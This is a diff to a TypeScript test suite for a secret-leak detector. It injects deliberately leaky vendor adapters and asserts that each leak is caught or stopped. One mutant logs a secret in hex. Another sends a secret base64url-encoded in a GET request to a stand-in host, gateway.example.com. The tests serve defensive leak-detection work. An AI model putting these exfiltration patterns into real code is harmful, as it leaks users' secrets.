@@ -59,20 +59,27 @@ const clear = (parts: Parts): string => parts['value']?.reveal() ?? '';
 describe('a program that leaks on purpose', () => {
   it.each<[string, Change, RegExp]>([
     [
-      'takes the value for the id, in hex',
-      (vendor) => ({ ...vendor, identify: async (parts) => Buffer.from(clear(parts)).toString('hex') }),
+      'says the value in the log, in hex',
+      (vendor, { log }) => ({
+        ...vendor,
+        identify: async (parts) => {
+          log.info(Buffer.from(clear(parts)).toString('hex'));
+          return vendor.identify(parts);
+        },
+      }),
       /the value of key_\w+ stands in run \d, log \(hex\)/,
     ],
     [
-      'writes the value into a label, in base64',
-      (vendor) => ({
+      'writes the value into an address, in base64',
+      (vendor, ports) => ({
         ...vendor,
-        create: async (wanted) => {
-          const made = await vendor.create(wanted);
-          return { ...made, id: `${made.id}-${Buffer.from(clear(made.parts)).toString('base64')}` };
+        verify: async (parts) => {
+          const text = Buffer.from(`x${clear(parts)}`).toString('base64url');
+          await ports.http.send({ method: 'GET', url: `https://gateway.example.com/v1/me?of=${text}` });
+          return vendor.verify(parts);
         },
       }),
-      /the value of key_\w+ stands in journal, facts\/.* \(base64 at \d\)/,
+      /the value of key_\w+ stands in GET .*, url \(base64(url)? at \d\)/,
     ],
     [
       'says the value in the log',
@@ -106,5 +113,33 @@ describe('a program that leaks on purpose', () => {
     await company.run(['rotate']);
     await company.run(NOW);
     expect(searched(company).leaks.join('\n')).toMatch(leak);
+  });
+});
+
+/** What a program takes for an id, and an id is told everywhere. */
+describe('a program that takes the value for an id', () => {
+  const encodings: readonly (readonly [string, (value: string) => string])[] = [
+    ['as it is', (value) => value],
+    ['in hex', (value) => Buffer.from(value).toString('hex')],
+    ...['', 'x', 'xy'].map((before): [string, (value: string) => string] => [
+      `in base64, after ${JSON.stringify(before)}`,
+      (value) => Buffer.from(`${before}${value}-and-more`).toString('base64'),
+    ]),
+    ['percent-encoded, between others', (value) => `key-${encodeURIComponent(value)}-1`],
+  ];
+
+  it.each(encodings)('%s, is stopped before it tells or sends it', async (_what, encoded) => {
+    const catalog = mutant((vendor) => ({
+      ...vendor,
+      identify: async (parts) => encoded(clear(parts)),
+      create: async (wanted) => {
+        const made = await vendor.create(wanted);
+        return { ...made, id: encoded(clear(made.parts)) };
+      },
+    }));
+    const company = await stronghold({ catalog });
+    await company.run(['rotate']);
+    await company.run(NOW);
+    expect(searched(company).leaks).toEqual([]);
   });
 });
